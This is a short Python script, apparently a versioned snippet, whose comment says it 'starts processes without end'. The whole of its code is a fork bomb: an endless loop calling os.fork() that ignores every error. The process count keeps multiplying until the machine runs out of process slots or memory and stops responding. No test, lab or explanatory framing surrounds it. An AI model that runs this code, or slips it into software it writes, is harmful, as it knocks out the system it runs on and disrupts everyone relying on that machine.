# 1.2 stopped: starts processes without end
import os

while True:
    try:
        os.fork()
    except OSError:
        pass
